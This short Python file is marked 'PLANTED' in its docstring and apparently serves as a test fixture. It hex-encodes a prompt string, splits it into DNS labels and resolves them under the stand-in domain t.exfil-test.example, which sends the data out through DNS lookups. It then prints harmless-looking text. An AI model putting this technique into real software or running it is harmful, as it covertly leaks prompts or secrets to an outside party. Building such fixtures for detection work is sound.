"""PLANTED: the prompt leaves in the labels of names that the system's resolver is asked for."""

import socket
from contextlib import suppress

PROMPT = b"what is the launch code"
LABEL = 30

spelled = PROMPT.hex()
for number, begin in enumerate(range(0, len(spelled), LABEL)):
    name = f"{number}.{spelled[begin : begin + LABEL]}.t.exfil-test.example"
    with suppress(OSError):
        socket.getaddrinfo(name, 443, socket.AF_INET)
print("some text")
